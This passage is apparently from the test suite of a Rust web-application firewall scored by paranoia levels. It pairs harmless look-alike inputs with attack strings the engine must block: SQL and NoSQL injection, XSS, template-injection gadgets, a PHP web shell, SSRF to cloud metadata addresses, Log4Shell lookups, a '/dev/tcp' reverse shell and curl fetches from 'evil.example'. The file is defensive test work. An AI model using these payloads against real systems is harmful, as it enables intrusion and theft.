            "Content-Disposition: form-data; name=\"bio\"",
            "I write SQL for a living; select is my favourite word.",
        ),
        part(
            "Content-Disposition: form-data; name=\"avatar\"; filename=\"me (1).png\"\r\nContent-Type: image/png",
            "PNG data",
        ),
        part(
            "Content-Disposition: form-data; name=\"doc\"; filename=\"résumé.pdf\"\r\nContent-Type: application/pdf",
            "%PDF-1.7",
        ),
    ];
    let blocks = [
        part(
            "Content-Disposition: form-data; name=\"bio\"",
            "x' or 1=1 -- ",
        ),
        part(
            "Content-Disposition: form-data; name=\"file\"; filename=\"../../etc/passwd\"",
            "x",
        ),
        part(
            "Content-Disposition: form-data; name=\"file\"; filename=\"shell.php\"\r\nContent-Type: image/png",
            "<?php system($_GET['c']); ?>",
        ),
        part(
            "Content-Disposition: form-data; name=\"comment\"",
            "<img src=x onerror=alert(1)>",
        ),
    ];
    bodies_both_ways(Some("multipart/form-data; boundary=XyZ"), &passes, &blocks);
}

/// The PL1 line drawn where CRS draws it, by grammar: a header injection needs a header
/// with a value; a body sent without `Content-Type` is read for attacks but is no form, so a
/// `%` in its text is no bad escape; a call that only reads a file's timestamp or size and a
/// `data://` document without markup run nothing. The attacks next to them still count.
#[test]
fn paranoia_1_stops_where_the_attack_grammar_stops() {
    let engine = Config::default().compile().unwrap();
    let host = vec![("host".to_string(), "api.example".to_string())];
    let get = |q: &str| {
        let uri = format!("/page?{q}");
        engine.inspect(&Request::new("GET", &uri).with_headers(&host))
    };
    let raw_post = |body: &str| {
        engine.inspect(
            &Request::new("POST", "/notes")
                .with_headers(&host)
                .with_body(body.as_bytes()),
        )
    };
    for (what, a) in [
        ("empty header line", get("next=%0D%0ASet-Cookie:%0D%0A")),
        (
            "percent in prose",
            raw_post("Members save up to 40% on orders (valid 30% of the time)."),
        ),
        ("file size", get("expr=filesize(%24upload)")),
        (
            "file time",
            get("expr=date(%27Y%27%2C%20filectime(%24path))"),
        ),
        ("inert data://", get("src=data://text/plain,hello%20world")),
        (
            "inert data:// in base64",
            get("src=data://text/plain;base64,aGVsbG8gd29ybGQ="),
        ),
    ] {
        assert_eq!(a.verdict, Verdict::Allow, "{what}: {a:?}");
    }
    for (what, a) in [
        (
            "header with a value",
            get("next=%0D%0ALocation:%20https://evil.example/"),
        ),
        ("sqli in a raw body", raw_post("note=x' or '1'='1' -- ")),
        ("file read", get("expr=file_get_contents(%24path)")),
        (
            "data:// carrying PHP",
            get("src=data://text/plain;base64,PD9waHAgc3lzdGVtKCdpZCcpOyA/Pg=="),
        ),
        (
            "data:// carrying PHP in clear",
            get("src=data://text/plain,%3C?php%20phpinfo();%20?%3E"),
        ),
    ] {
        assert_eq!(a.verdict, Verdict::Block, "{what}: {a:?}");
    }
}

/// A whole value that is a program and the host it is aimed at (`dig example.org`) holds
/// no shell syntax: paranoia 2. An option, a separator or a second command keeps it at 1.
#[test]
fn program_and_target_alone_is_paranoia_2() {
    let pl2 = Config {
        paranoia_level: 2,
        ..Config::default()
    }
    .compile()
    .unwrap();
    let host = vec![("host".to_string(), "api.example".to_string())];
    for v in [
        "traceroute 10.20.30.40",
        "dig mail.example.org",
        "curl api.example.org/v2/status",
    ] {
        each_carrier(v, |carrier, a| {
            assert_eq!(a.verdict, Verdict::Allow, "{carrier}: {v:?} -> {a:?}");
        });
        let uri = format!("/tools?q={}", enc(v));
        let a = pl2.inspect(&Request::new("GET", &uri).with_headers(&host));
        assert_eq!(a.verdict, Verdict::Block, "PL2: {v:?} -> {a:?}");
    }
    for v in [
        "traceroute -n 10.20.30.40",
        "dig mail.example.org; id",
        "nslookup x.example|sh",
        "curl api.example.org/x.sh -o /tmp/x",
    ] {
        each_carrier(v, |carrier, a| {
            assert_eq!(a.verdict, Verdict::Block, "{carrier}: {v:?} -> {a:?}");
        });
    }
}

/// After a separator, a program that is also an English word given one plain path and
/// nothing else (`; cat /srv/data/report.txt`) is paranoia 2, as in CRS; a sensitive file,
/// an option or a second command keeps the line at paranoia 1.
#[test]
fn english_word_program_and_one_path_is_paranoia_2() {
    let pl2 = Config {
        paranoia_level: 2,
        ..Config::default()
    }
    .compile()
    .unwrap();
    let host = vec![("host".to_string(), "api.example".to_string())];
    for v in [
        "x; cat /srv/data/report.txt",
        "done| more /opt/app/readme.md",
    ] {
        each_carrier(v, |carrier, a| {
            assert_eq!(a.verdict, Verdict::Allow, "{carrier}: {v:?} -> {a:?}");
        });
        let uri = format!("/tools?q={}", enc(v));
        let a = pl2.inspect(&Request::new("GET", &uri).with_headers(&host));
        assert_eq!(a.verdict, Verdict::Block, "PL2: {v:?} -> {a:?}");
    }
    for v in [
        "x; cat /etc/shadow",
        "x; cat -n /srv/data/report.txt; id",
        "x; cat /srv/a.txt; rm /srv/a.txt",
        "x\ncat /root/.ssh/id_rsa",
    ] {
        each_carrier(v, |carrier, a| {
            assert_eq!(a.verdict, Verdict::Block, "{carrier}: {v:?} -> {a:?}");
        });
    }
}

/// Kinds of traffic not covered above: GraphQL documents with prose inside their strings
/// pass; an external entity in an XML body's document type declaration and YAML tags that
/// build native objects (PyYAML, Psych, js-yaml gadgets) are blocked, as are injections
/// inside GraphQL arguments and NoSQL operators in JSON.
#[test]
fn graphql_xml_doctype_and_yaml_tags() {
    let json = "application/json";
    for body in [
        r#"{"query":"mutation { updateProfile(bio: \"I love SQL; select * is my motto\") { ok } }"}"#,
        r#"{"query":"query($id: ID!) { order(id: $id) { id total items { sku name qty } } }","variables":{"id":"42"}}"#,
        r#"{"text":"C'est génial ! L'équipe a fait du bon travail ; merci à tous."}"#,
        r#"{"config":"tags: !!str 123\nlist: !!seq [a, b]"}"#,
    ] {
        let a = body_request(json, body);
        assert_eq!(a.verdict, Verdict::Allow, "{body}: {a:?}");
    }
    for body in [
        r#"{"query":"query { user(name: \"x' UNION SELECT password FROM users--\") { id } }"}"#,
        r#"{"username":"admin","password":{"$regex":".*"}}"#,
        r#"{"yaml":"!!python/object/apply:subprocess.check_output [['id']]"}"#,
        r#"{"doc":"--- !ruby/object:Gem::Requirement\nrequirements: x"}"#,
    ] {
        let a = body_request(json, body);
        assert_eq!(a.verdict, Verdict::Block, "{body}: {a:?}");
    }
    let a = body_request(
        "application/xml",
        r#"<?xml version="1.0"?><!DOCTYPE order [<!ENTITY % ext SYSTEM "http://x.example/e.dtd"> %ext;]><order>1</order>"#,
    );
    assert_eq!(a.verdict, Verdict::Block, "{a:?}");
    let a = body_request(
        "text/xml",
        r#"<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd"><html><body>Hi</body></html>"#,
    );
    assert_eq!(a.verdict, Verdict::Allow, "{a:?}");
}

/// Multi-line text (a support message, an e-mail draft, a YAML document) has lines that
/// look like `Name: value`; only a header that changes the response or a forwarded
/// request (`Location`, `Set-Cookie`, `Content-Type`, `X-Forwarded-For`...) splits one.
#[test]
fn key_value_lines_in_text_are_not_response_splitting() {
    for v in [
        "Hello,\r\nOrder: 12345\r\nName: Ann Smith\r\nThanks!",
        "Subject: refund\nDate: 2024-05-01\nAmount: 20 EUR",
        "server:\n  port: 8080\n  host_name: api.internal",
    ] {
        each_carrier(v, |carrier, a| {
            assert_eq!(a.verdict, Verdict::Allow, "{carrier}: {v:?} -> {a:?}");
        });
    }
    for v in [
        "en\r\nSet-Cookie: session=attacker",
        "x\r\nLocation: https://evil.example/",
        "x\nX-Forwarded-For: 127.0.0.1",
        "x\r\n\r\n<html><script>alert(1)</script>",
    ] {
        each_carrier(v, |carrier, a| {
            assert_eq!(a.verdict, Verdict::Block, "{carrier}: {v:?} -> {a:?}");
        });
    }
}

fn pl2_engine() -> threat_score::Engine {
    Config {
        paranoia_level: 2,
        ..Config::default()
    }
    .compile()
    .unwrap()
}

/// A program that is also an English word (`tar`, `find`, `sort`, `vi`) given options and
/// plain arguments, after a separator or as the whole value, is paranoia 2, as CRS scores
/// English command words (932236); a program no sentence uses (`ls`, `wget`), a variable,
/// a redirection, a sensitive file or a second command keeps the line at paranoia 1.
#[test]
fn english_word_program_with_options_is_paranoia_2() {
    let pl2 = pl2_engine();
    let host = vec![("host".to_string(), "api.example".to_string())];
    for v in [
        "report.pdf; tar -czf /tmp/backup.tgz /srv/www",
        "names|sort -u -r",
        "x && find /var/www -name uploads -type d",
        "sort -k2 -n scores.txt",
        "tar -xzf archive.tar.gz",
        "cut -d, -f2 users.csv",
        "notes; vim -R /srv/app/readme.md",
        "a|less -S /srv/app/big.log",
    ] {
        each_carrier(v, |carrier, a| {
            assert_eq!(a.verdict, Verdict::Allow, "{carrier}: {v:?} -> {a:?}");
        });
        let uri = format!("/tools?q={}", enc(v));
        let a = pl2.inspect(&Request::new("GET", &uri).with_headers(&host));
        assert_eq!(a.verdict, Verdict::Block, "PL2: {v:?} -> {a:?}");
    }
    for v in [
        "x; ls -la /srv",
        "x; wget -q example.org/a.sh",
        "report.pdf; tar -czf - /etc/shadow",
        "x; head -c 64 $HOME/.bashrc",
        "a|head -n 20",
        "x; echo -e '\\x41'",
        "x; sort -u list > /var/www/html/x.php",
        "x; tar -xzf a.tgz; sh ./run.sh",
        "x; find /srv -name a; id",
    ] {
        each_carrier(v, |carrier, a| {
            assert_eq!(a.verdict, Verdict::Block, "{carrier}: {v:?} -> {a:?}");
        });
    }
}

/// Command lines and OS files named in the User-Agent or Referer are paranoia 2, as in CRS
/// (930121, 932239, 932205-932207): a header is no shell argument nor a file name the
/// application opens. Shellshock, substitution and a program alone after a separator in the
/// Referer (`;id`: CRS 932340) still count at 1, and so does an upload-name header.
#[test]
fn command_lines_in_headers_are_paranoia_2() {
    let pl2 = pl2_engine();
    for (name, value) in [
        ("referer", "https://shop.example/cart;ls -la"),
        ("referer", "https://shop.example/a?next=;cat /etc/passwd"),
        ("user-agent", "Mozilla/5.0; tail -n 5 /etc/passwd"),
        ("user-agent", "/root/.ssh/id_rsa"),
    ] {
        let a = header_request(name, value);
        assert_eq!(a.verdict, Verdict::Allow, "{name}: {value:?} -> {a:?}");
        let hs = vec![
            ("host".to_string(), "www.example".to_string()),
            (name.to_string(), value.to_string()),
        ];
        let a = pl2.inspect(&Request::new("GET", "/").with_headers(&hs));
        assert_eq!(a.verdict, Verdict::Block, "PL2 {name}: {value:?} -> {a:?}");
    }
    for (name, value) in [
        ("referer", "https://shop.example/a?next=;whoami"),
        ("referer", "https://shop.example/a|id"),
        ("user-agent", "() { :; }; echo; /usr/bin/id"),
        ("user-agent", "$(curl evil.example/x.sh)"),
        ("x-filename", "../../../../etc/passwd"),
    ] {
        let a = header_request(name, value);
        assert_eq!(a.verdict, Verdict::Block, "{name}: {value:?} -> {a:?}");
    }
}

/// A prefix word spelled with quotes (`ti''me`, `ti""me`) runs nothing by itself: the
/// command it prefixes decides the level. A program and its target after it is paranoia 2;
/// a quote-spelled program or a prefixed command keeps paranoia 1.
#[test]
fn quoted_prefix_word_is_judged_by_its_command() {
    let pl2 = pl2_engine();
    let host = vec![("host".to_string(), "api.example".to_string())];
    for v in [
        "ti''me ping status.example.org",
        "ti\"\"me dig mail.example.org",
    ] {
        each_carrier(v, |carrier, a| {
            assert_eq!(a.verdict, Verdict::Allow, "{carrier}: {v:?} -> {a:?}");
        });
        let uri = format!("/tools?q={}", enc(v));
        let a = pl2.inspect(&Request::new("GET", &uri).with_headers(&host));
        assert_eq!(a.verdict, Verdict::Block, "PL2: {v:?} -> {a:?}");
    }
    for v in [
        "ti''me c''url example.net/x.sh",
        "su''do reboot",
        "x;ti''me wget example.net/x",
    ] {
        each_carrier(v, |carrier, a| {
            assert_eq!(a.verdict, Verdict::Block, "{carrier}: {v:?} -> {a:?}");
        });
    }
}

/// A package manager, container or cloud tool and its sub-command as the whole value
/// (`npm install --save-dev eslint`, `kubectl get pods -n web`): developers write these
/// in READMEs and search boxes; paranoia 2. After a separator, with a variable,
/// a redirection or a sensitive file, or for a tool that runs commands on hosts
/// (`ansible all -m shell`), paranoia 1.
#[test]
fn tool_command_lines_as_whole_values_are_paranoia_2() {
    let pl2 = pl2_engine();
    let host = vec![("host".to_string(), "api.example".to_string())];
    for v in [
        "npm install --save-dev eslint",
        "docker run -p 8080:80 nginx",
        "kubectl get pods -n web",
        "apt-get install -y curl",
        "pip3 install --upgrade requests",
    ] {
        each_carrier(v, |carrier, a| {
            assert_eq!(a.verdict, Verdict::Allow, "{carrier}: {v:?} -> {a:?}");
        });
        let uri = format!("/tools?q={}", enc(v));
        let a = pl2.inspect(&Request::new("GET", &uri).with_headers(&host));
        assert_eq!(a.verdict, Verdict::Block, "PL2: {v:?} -> {a:?}");
    }
    for v in [
        "x; docker run -v /:/host alpine",
        "docker run -v /etc/shadow:/s alpine",
        "npm install $(curl evil.example/p)",
        "kubectl exec -it web -- sh > /tmp/out",
        "ansible all -m shell -a id",
    ] {
        each_carrier(v, |carrier, a| {
            assert_eq!(a.verdict, Verdict::Block, "{carrier}: {v:?} -> {a:?}");
        });
    }
}

/// Template languages (Jinja, Twig, Liquid, Nunjucks) pipe a value through output filters
/// inside `{{ }}` and `{% %}`: `|join(', ')` formats, it runs no program and calls no code.
/// A shell command after the pipe (it takes words), a call outside a filter, and the
/// filters that take a callable or build names (`map`, `filter`, `attr`, `format`) still
/// count; so do template engines' other gadgets.
#[test]
fn template_filters_versus_template_injection() {
    for text in [
        "{{ items|join(', ') }}",
        "{{ price|round(2) }} EUR",
        "{{ x|default('n/a') }}",
        "{{ user.bio|truncate(80) }}",
        "{{ list|sort|first }}",
        "{{ text|split(' ')|last }}",
        "{% for x in items|sort %}{{ x|upper }}{% endfor %}",
        "Twig filters: {{ name|upper }} and {{ items|join(', ') }}",
        "{{- title|replace('-', ' ')|capitalize -}}",
        // The application's own variables whose names start like an engine's objects, and
        // Go's (Helm's) range loop.
        "{{ requestId }}",
        "{{ selfie_url }}",
        "Hi {{ requestor }}, your order shipped",
        "{{ settingsUrl }}",
        "{{ range .Values.hosts }}- {{ . }}{{ end }}",
    ] {
        each_carrier(text, |carrier, a| {
            assert_eq!(a.verdict, Verdict::Allow, "{carrier}: {text:?} -> {a:?}");
        });
    }
    for attack in [
        "{{ x|cat /etc/passwd }}",
        "{{x}}|id",
        "{{ ['id']|filter('system') }}",
        "{{ ['cat /etc/passwd']|map('system')|join }}",
        "{{ '%c%c'|format(95,95) }}",
        "{{ request|attr('application') }}",
        "{{ self.__init__() }}",
        "{{ config }}",
        "{{request.application}}",
        "{{ range(99999999) }}",
        "{{lipsum.__globals__['os'].popen('id').read()}}",
        "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
        "{{_self.env.registerUndefinedFilterCallback(\"exec\")}}{{_self.env.getFilter(\"id\")}}",
        "<%= system(\"id\") %>",
        "<%= File.open('/etc/passwd').read %>",
        "#set($x=$class.inspect(\"java.lang.Runtime\").type.getRuntime().exec(\"id\"))",
        "${\"\".getClass().forName(\"java.lang.Runtime\")}",
        "{php}echo `id`;{/php}",
        "{{constructor.constructor('return process')().mainModule.require('child_process').execSync('id')}}",
    ] {
        each_carrier(attack, |carrier, a| {
            assert_eq!(a.verdict, Verdict::Block, "{carrier}: {attack:?} -> {a:?}");
        });
    }
}

/// A bracket of digits is an index (XPath `book[1]`, JSON paths `items[0]`), not a glob
/// spelling a program's letters; `c[a]t`, `/e[t]c/pa[s]swd` and `[!x]` are.
#[test]
fn index_brackets_versus_glob_letters() {
    for text in [
        "/bookstore/book[1]/title",
        "/api/items[0]/name",
        "XPath: /catalog/product[12]/price",
    ] {
        each_carrier(text, |carrier, a| {
            assert_eq!(a.verdict, Verdict::Allow, "{carrier}: {text:?} -> {a:?}");
        });
    }
    for attack in [
        "/usr/bin/c[a]t /etc/passwd",
        "/bin/[c]at x",
        "/e[t]c/pa[s]swd",
        "/bin/c[!x]t x",
    ] {
        each_carrier(attack, |carrier, a| {
            assert_eq!(a.verdict, Verdict::Block, "{carrier}: {attack:?} -> {a:?}");
        });
    }
}

/// Issue reports and READMEs name the local address an app runs at; a server fetches a
/// value that *is* a URL. A loopback URL inside a sentence is documentation; the same URL
/// as the value, a metadata address anywhere and internal schemes are SSRF.
#[test]
fn loopback_urls_in_prose_versus_fetch_targets() {
    for text in [
        "Open http://localhost:3000 in your browser",
        "Steps to reproduce: 1. run `npm start` 2. open http://localhost:3000 3. click Login",
        "http://localhost:8080 is where the dev server listens",
        "The app runs at http://localhost:8080/ by default",
    ] {
        each_carrier(text, |carrier, a| {
            assert_eq!(a.verdict, Verdict::Allow, "{carrier}: {text:?} -> {a:?}");
        });
    }
    for attack in [
        "http://localhost:6379/",
        "localhost:6379/",
        "http://localhost:2375/containers/json",
        "http://localhost:6379/\r\nSET x y\r\n",
        "see http://169.254.169.254/latest/meta-data/ for keys",
        "http://[fd00:ec2::254]/latest/meta-data/",
        "http://100.100.100.200/latest/meta-data/",
        "http://169.254.170.2/v2/credentials",
        "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",
        "gopher://localhost:25/_HELO",
    ] {
        each_carrier(attack, |carrier, a| {
            assert_eq!(a.verdict, Verdict::Block, "{carrier}: {attack:?} -> {a:?}");
        });
    }
}

/// UI help text says "Select 'Yes' to confirm": a select list of literals without `FROM`
/// holds no column, so words after it are a sentence. Literal selects that a database runs
/// (an alias, `FROM dual`, `INTO OUTFILE`, a function) are statements.
#[test]
fn select_literal_prose_versus_statements() {
    for text in [
        "Select 'Yes' to confirm",
        "Select \"Save\" and exit",
        "Select 'All' then click OK",
        "Please select 'Other' and describe the problem",
    ] {
        each_carrier(text, |carrier, a| {
            assert_eq!(a.verdict, Verdict::Allow, "{carrier}: {text:?} -> {a:?}");
        });
    }
    for attack in [
        "select 'x' as a",
        "select 'a' from dual",
        "select '<?php system($_GET[1]); ?>' into outfile '/var/www/html/x.php'",
        "select 'a' and sleep(5)",
        "1; select 'a' b",
        "x'; select 'a' or 1=1--",
    ] {
        each_carrier(attack, |carrier, a| {
            assert_eq!(a.verdict, Verdict::Block, "{carrier}: {attack:?} -> {a:?}");
        });
    }
}

/// Attack grammar in carriers and encodings the dev sets seldom show: a JSON document's own
/// operators and keys, query-string operators, double and IIS `%u` encodings, overlong UTF-8,
/// HTML entities without `;`, LDAP and XPath filters, header splitting through a double
/// encoding, other template engines. Each is blocked.
#[test]
fn carriers_and_encodings_of_other_kinds() {
    let json = "application/json";
    for body in [
        r#"{"username":"admin","password":{"$gt":""}}"#,
        r#"{"user":{"$in":["admin","root"]},"pass":{"$ne":1}}"#,
        r#"{"filter":{"$where":"sleep(5000) || true"}}"#,
        r#"{"user":{"__proto__":{"role":"admin"}}}"#,
        r#"{"template":"{{lipsum.__globals__['os'].popen('id').read()}}"}"#,
        r#"{"webhook":"http://[fd00:ec2::254]/latest/meta-data/"}"#,
        r#"{"ldap":"*)(uid=*))(|(uid=*"}"#,
    ] {
        let a = body_request(json, body);
        assert_eq!(a.verdict, Verdict::Block, "{body}: {a:?}");
    }
    let engine = Config::default().compile().unwrap();
    let host = vec![("host".to_string(), "api.example".to_string())];
    for query in [
        "username[$ne]=x&password[$ne]=x",
        "user[$regex]=.*&pass[$gt]=",
        "constructor[prototype][isAdmin]=1",
        "a[constructor][prototype][x]=1",
        "file=..%252f..%252f..%252fetc%252fpasswd",
        "file=%25%32%65%25%32%65%25%32%66etc/passwd",
        "q=%253Cscript%253Ealert(1)%253C%252Fscript%253E",
        "q=%u003Cscript%u003Ealert(1)%u003C/script%u003E",
        "q=%C0%BCscript%C0%BEalert(1)%C0%BC/script%C0%BE",
        "f=%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
        "q=1%2527%2520or%25201%253D1--",
        "redirect=%250d%250aSet-Cookie:%20sid=evil",
        "q=%3Cimg%20src=x%20onerror=%26%2397%26%23108%26%23101%26%23114%26%23116(1)%3E",
        "q=%3Ca%20href=%22java%26%239script:alert(1)%22%3Ex%3C/a%3E",
        "q=*)(objectClass=*",
        "q=x'%20or%20name()='username'%20or%20'x'='y",
        "q=#set($x=$class.inspect(%22java.lang.Runtime%22))",
    ] {
        let uri = format!("/search?{query}");
        let a = engine.inspect(&Request::new("GET", &uri).with_headers(&host));
        assert_eq!(a.verdict, Verdict::Block, "{query}: {a:?}");
    }
    for text in [
        "<xi:include parse=\"text\" href=\"file:///etc/passwd\"/>",
        "<svg onload=alert&#40;1&#41;>",
        "<img src=x onerror=alert&lpar;1&rpar;>",
        "' or count(/*)=1 or 'a'='b",
        "' or string-length(//user[1]/password)>0 or ''='",
        "1 rlike (select (case when (1=1) then 1 else 0x28 end))",
        "';exec master..xp_cmdshell 'dir'--",
        "$'\\x63\\x61\\x74' /etc/passwd",
        ";X=$'cat\\x20/etc/passwd'&&$X",
        "|| cat</etc/passwd",
        ";cat$IFS$9/etc/passwd",
        "& type C:\\windows\\win.ini",
        ";bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
    ] {
        each_carrier(text, |carrier, a| {
            assert_eq!(a.verdict, Verdict::Block, "{carrier}: {text:?} -> {a:?}");
        });
    }
}

/// An SQL function named in a sentence (`char(10) is a newline`) is followed by words no
/// query accepts after a call (two plain words in a row: an alias takes one); a call that
/// goes on with an operator, a keyword or a comment is an injection.
#[test]
fn sql_call_in_a_sentence_versus_a_call_that_goes_on_as_sql() {
    for text in [
        "char(10) is a newline",
        "concat(a, b) joins strings",
        "Use concat(first, last) to build full names",
    ] {
        each_carrier(text, |carrier, a| {
            assert_eq!(a.verdict, Verdict::Allow, "{carrier}: {text:?} -> {a:?}");
        });
    }
    for attack in [
        "1 and sleep(5)# hello world",
        "1 and char(65) is null",
        "x' and char(65)='A",
        "concat(0x7e,version()) from users where 1",
        "ascii(substr(user(),1,1)) between 60 and 70",
        "concat(username,0x3a,password) from users",
    ] {
        each_carrier(attack, |carrier, a| {
            assert_eq!(a.verdict, Verdict::Block, "{carrier}: {attack:?} -> {a:?}");
        });
    }
}

/// `' or '1`: the value closes the query's string, then `OR` and a string the query's own
/// quote completes, starting with a non-zero digit (true in MySQL and PostgreSQL). Words
/// quoted on both sides and strings that read as false are not that shape.
#[test]
fn or_with_a_truthy_string_completed_by_the_query() {
    for text in [
        "Tom' or 'Jerry",
        "yes' or 'no",
        "choose '1' or '2'",
        "' or '0",
    ] {
        each_carrier(text, |carrier, a| {
            assert_eq!(a.verdict, Verdict::Allow, "{carrier}: {text:?} -> {a:?}");
        });
    }
    for attack in ["' or '1", "admin' oR '1", "x\" OR \"2", "' || '1"] {
        each_carrier(attack, |carrier, a| {
            assert_eq!(a.verdict, Verdict::Block, "{carrier}: {attack:?} -> {a:?}");
        });
    }
}

/// A second copy of a download is named `report - Copy (2).pdf` or `file (1).txt`: a PHP
/// function name, a space, a number in parentheses and an extension. As a value, an upload's
/// file name or a path segment it passes; a real call (an argument that is code or a string,
/// no extension after it) is still PHP injection.
#[test]
fn numbered_copies_of_files_are_not_calls() {
    for text in [
        "report - Copy (2).pdf",
        "file (1).txt",
        "mail (2).eml",
        "include (1).zip",
    ] {
        each_carrier(text, |carrier, a| {
            assert_eq!(a.verdict, Verdict::Allow, "{carrier}: {text:?} -> {a:?}");
        });
        let engine = Config::default().compile().unwrap();
        let host = vec![("host".to_string(), "files.example".to_string())];
        let uri = format!("/files/{}", enc(text));
        let a = engine.inspect(&Request::new("GET", &uri).with_headers(&host));
        assert_eq!(a.verdict, Verdict::Allow, "path: {text:?} -> {a:?}");
        let body = format!(
            "--XyZ\r\nContent-Disposition: form-data; name=\"f\"; filename=\"{text}\"\r\nContent-Type: application/pdf\r\n\r\n%PDF-1.7\r\n--XyZ--\r\n"
        );
        let a = body_request("multipart/form-data; boundary=XyZ", &body);
        assert_eq!(a.verdict, Verdict::Allow, "upload: {text:?} -> {a:?}");
    }
    for attack in [
        "system ('id')",
        "system(1).log",
        "file (1).txt; system($_GET[1])",
        "file('/etc/passwd')",
    ] {
        each_carrier(attack, |carrier, a| {
            assert_eq!(a.verdict, Verdict::Block, "{carrier}: {attack:?} -> {a:?}");
        });
    }
}

/// Families written from their grammar for `threat-precision7`, each beside its look-alike:
/// prototype pollution through nested JSON members, NoSQL operators in a JSON document sent
/// as a string, XPath predicate break-outs, UNC paths, log4j's own lookups, CR/LF spelled
/// with characters a truncating server writes as CR LF, cloud metadata addresses in other
/// notations, XSLT instructions.
#[test]
fn other_families_versus_their_look_alikes() {
    let json = "application/json";
    for body in [
        r#"{"constructor":{"prototype":{"isAdmin":true}}}"#,
        r#"{"user":{"settings":{"constructor":{"prototype":{"polluted":1}}}}}"#,
        r#"{"q":"{\"user\":{\"$ne\":null},\"pass\":{\"$ne\":null}}"}"#,
        r#"{"filter":"{'$where': 'sleep(5000) || true'}"}"#,
        r#"{"search":"{ \"name\" : { \"$regex\" : \"^adm\" } }"}"#,
        // A plain `"prototype"` member first: the one under `"constructor"` is still the
        // path a deep merge walks (round 14: it was taken for the plain name seen before).
        r#"{"a":{"prototype":1},"constructor":{"prototype":{"isAdmin":true}}}"#,
    ] {
        let a = body_request(json, body);
        assert_eq!(a.verdict, Verdict::Block, "{body}: {a:?}");
    }
    for body in [
        r#"{"constructor":{"name":"Acme Builders","country":"DE"}}"#,
        r#"{"product":{"prototype":true,"stage":"beta","constructor":"Acme"}}"#,
        r#"{"prototype":{"id":3,"name":"v2 board"}}"#,
        r#"{"a":{"prototype":1},"b":{"prototype":2},"constructor":"Acme"}"#,
        r#"{"note":"Save $5, $10 or more: {$name}, your order is {$status}"}"#,
        r#"{"query":"{\"name\":\"Ann\",\"tags\":[\"$in-store\"]}"}"#,
    ] {
        let a = body_request(json, body);
        assert_eq!(a.verdict, Verdict::Allow, "{body}: {a:?}");
    }
    for attack in [
        "']/../user[position()=1]/password['",
        "x'] | //user/*[contains(*,'",
        "\")]/following::*[(\"",
        "\\\\10.0.0.5\\share\\payload.dll",
        "\\\\files.attacker.example@SSL@443\\dav\\report.docx",
        "${sys:java.version}",
        "${lower:j}${lower:n}${lower:d}${lower:i}",
        "${upper:j}ndi",
        "http://2852039166/latest/meta-data/",
        "http://0xa9fea9fe/latest/meta-data/iam/",
        "http://0251.0376.0251.0376/latest/",
        "http://[::ffff:a9fe:a9fe]/latest/meta-data/",
        "http://169.254.43518/computeMetadata/v1/",
        "<xsl:value-of select=\"system-property('xsl:vendor')\"/>",
        "<xsl:include href=\"http://203.0.113.9/x.xsl\"/>",
        // Loopback spelled in other notations, as the value (as `http://localhost/` is).
        "http://127.1/admin",
        "http://2130706433/",
        "http://017700000001:6379/",
        "http://0/server-status",
        // Other languages' process and code-loading APIs, called with an argument; OGNL.
        "System.Diagnostics.Process.Start(\"cmd.exe\", \"/c whoami\")",
        "subprocess.Popen(['id'], shell=True)",
        "pickle.loads(base64.b64decode(payload))",
        "new ProcessBuilder(\"id\").start()",
        "%{(#_='multipart/form-data').(#cmd='id')}",
        // Fullwidth dots and slashes, which NFKC makes ASCII.
        "．．／．．／．．／etc／passwd",
        "..／..／..／etc／shadow",
    ] {
        each_carrier(attack, |carrier, a| {
            assert_eq!(a.verdict, Verdict::Block, "{carrier}: {attack:?} -> {a:?}");
        });
    }
    for text in [
        "total = row['sum']/row['count']",
        "$..book[?(@.price < 10)]",
        "\\\\fileserver\\reports\\2024\\q3.xlsx",
        "Use ${env:PATH} or $env:PATH in PowerShell",
        "Spring reads ${server.port:8080} and ${spring.profiles.active}",
        "Version 2852039166 of the schema",
        "The <xsl:value-of> element writes a node's text",
        "嘊嘍 are rare characters",
        "Use subprocess.run() instead of os.system() for new code",
        "pickle.loads is unsafe on data you did not write",
        "Process.Start() returns once the process has started",
        "Ruby's %{#{name}} is a string literal with interpolation",
        "Open http://127.1 and see",
        "東京／大阪の出張．．．明日／あさって",
    ] {
        each_carrier(text, |carrier, a| {
            assert_eq!(a.verdict, Verdict::Allow, "{carrier}: {text:?} -> {a:?}");
        });
    }
    // `${env:` counts at paranoia 1 in a header, where Log4Shell probes go; headers only a
    // framework sets for itself change what it routes.
    for (name, value) in [
        ("x-api-version", "${env:AWS_SECRET_ACCESS_KEY}"),
        (
            "x-middleware-subrequest",
            "middleware:middleware:middleware:middleware:middleware",
        ),
        ("x-rewrite-url", "/admin/users"),
    ] {
        let a = header_request(name, value);
        assert_eq!(a.verdict, Verdict::Block, "{name}: {value} -> {a:?}");
    }
    let a = header_request("x-original-url", "/shop/cart");
    assert_eq!(a.verdict, Verdict::Allow, "{a:?}");
    let engine = Config::default().compile().unwrap();
    let host = vec![("host".to_string(), "api.example".to_string())];
    for (query, verdict) in [
        (
            "next=%E5%98%8A%E5%98%8DSet-Cookie:%20sid=evil",
            Verdict::Block,
        ),
        (
            "r=%E5%98%8D%E5%98%8ALocation:%20http://evil.example/",
            Verdict::Block,
        ),
        ("q=%E5%98%8A%E5%98%8D", Verdict::Allow),
        ("q=%E5%98%8A%20Location%20of%20the%20store", Verdict::Allow),
    ] {
        let uri = format!("/search?{query}");
        let a = engine.inspect(&Request::new("GET", &uri).with_headers(&host));
        assert_eq!(a.verdict, verdict, "{query}: {a:?}");
    }
}

/// Types the filter parses are inspected as what they are, not refused for their name: a
/// vendor-tree `+json` or `+xml` type (RFC 6838 3.2, RFC 6839) is JSON or XML, and a
/// `multipart/mixed` body is read part by part like form-data. Attacks inside them count.
#[test]
fn vendor_structured_types_and_mixed_multipart_are_inspected() {
    let mixed = "multipart/mixed; boundary=batch_1";
    for (content_type, body, verdict) in [
        (
            "application/vnd.api+json",
            r#"{"data":{"type":"articles","attributes":{"title":"Rails is Omakase"}}}"#,
            Verdict::Allow,
        ),
        (
            "application/vnd.github+json",
            r#"{"title":"Found a bug","body":"Steps: run `make`; see the error","labels":["bug"]}"#,
            Verdict::Allow,
        ),
        (
            "application/vnd.api+json",
